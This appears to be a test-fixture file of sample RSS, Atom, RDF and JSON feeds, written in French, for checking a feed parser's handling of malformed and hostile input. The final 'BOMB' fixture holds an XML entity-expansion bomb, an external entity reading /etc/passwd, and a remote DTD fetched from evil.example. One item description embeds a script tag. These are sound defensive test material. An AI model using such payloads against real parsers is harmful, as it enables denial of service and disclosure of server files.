/** Feeds as sites write them, made for these tests. */

export const RSS = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:atom="http://www.w3.org/2005/Atom">
<channel><title>L&#8217;Écho des jardins</title><link>https://echo.example/</link><description>Semences et sols</description>
<atom:link href="https://flux.example/echo.xml" rel="self" type="application/rss+xml"/>
<item><title><![CDATA[Échanger ses graines : <em>le guide</em>]]></title><link>/2026/graines?utm_source=rss</link>
<guid isPermaLink="false">echo-412</guid><pubDate>Thu, 05 Mar 2026 08:00:00 +0100</pubDate><dc:creator><![CDATA[Awa Diop]]></dc:creator>
<category>Semences</category><category>Guides &amp; outils</category><category>Semences</category>
<description>&lt;p&gt;Trois r&amp;egrave;gles &lt;b&gt;simples&lt;/b&gt;.&lt;/p&gt;&lt;script&gt;x()&lt;/script&gt;</description>
<content:encoded><![CDATA[<p>Long texte</p>]]></content:encoded></item>
<item><title>Sans identifiant ni date</title><link>https://echo.example/sans</link><author>redaction@echo.example</author><pubDate>bientôt</pubDate></item>
<item><description>Une note sans titre, qui dit quand même quelque chose.</description></item>
<item><title>Encore echo-412</title><guid isPermaLink="false">echo-412</guid></item>
<item><guid>https://echo.example/permanent</guid><title>Par son identifiant</title><pubDate>5 mars 2026</pubDate></item>
</channel></rss>`;

export const ATOM = `<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://atelier.example/journal/">
<title type="html">Journal de l&amp;#39;atelier</title><link rel="self" href="atom.xml"/><link href="./"/>
<author><name>L’atelier</name><email>a@atelier.example</email></author><id>urn:journal</id><updated>2026-03-06T10:00:00Z</updated>
<entry><id>urn:uuid:1</id><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Réparer <em>ensemble</em></div></title>
<link rel="enclosure" href="son.mp3"/><link rel="alternate" href="reparer.html"/><published>2026-03-04T18:30:00+01:00</published><updated>2026-03-06T10:00:00Z</updated>
<category term="reparation" label="Réparation"/><content type="html">&lt;p&gt;Samedi, on ouvre.&lt;/p&gt;</content></entry></feed>`;

export const RDF = `<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://vieux.example/"><title>Vieux site</title><link>https://vieux.example/</link><description>x</description></channel>
<item rdf:about="https://vieux.example/1"><title>Un</title><link>https://vieux.example/1</link><dc:date>2026-03-01T12:00+01:00</dc:date><dc:creator>Léa</dc:creator><dc:subject>Eau</dc:subject></item></rdf:RDF>`;

export const JSON_FEED = JSON.stringify({
  version: 'https://jsonfeed.org/version/1.1',
  title: 'Carnet',
  home_page_url: 'https://carnet.example/',
  authors: [{ name: 'Tom' }],
  items: [
    {
      id: 7,
      url: '/7',
      content_html: '<p>Bonjour &amp; merci</p>',
      date_published: '2026-03-01T00:00:00Z',
      tags: ['note'],
    },
  ],
});

export const BOMB = `<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 30 }, (_, i) => `<!ENTITY b${i} "${`&b${i + 1};`.repeat(10)}">`).join('')}
<!ENTITY passwd SYSTEM "file:///etc/passwd"><!ENTITY % far SYSTEM "https://evil.example/x.dtd"> %far;]>
<rss version="2.0"><channel><title>Avant &b0; &passwd; après</title><link>https://x.example/</link>
<item><title>&b0;Un titre</title><link>https://x.example/1</link></item></channel></rss>`;
